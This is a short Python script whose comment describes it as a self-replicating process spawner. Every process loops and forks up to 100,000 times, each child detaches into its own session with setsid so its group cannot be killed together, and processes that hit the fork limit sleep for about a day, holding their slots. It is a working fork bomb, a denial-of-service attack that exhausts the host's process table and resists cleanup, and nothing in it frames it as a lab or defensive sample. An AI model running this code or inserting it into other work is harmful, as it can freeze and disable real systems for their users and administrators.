# Makes processes that make processes, each in a session of its own, so that its group can't be ended.
import os
import time

for _ in range(100_000):
    try:
        if os.fork() == 0:
            os.setsid()
    except OSError:
        time.sleep(86_421)
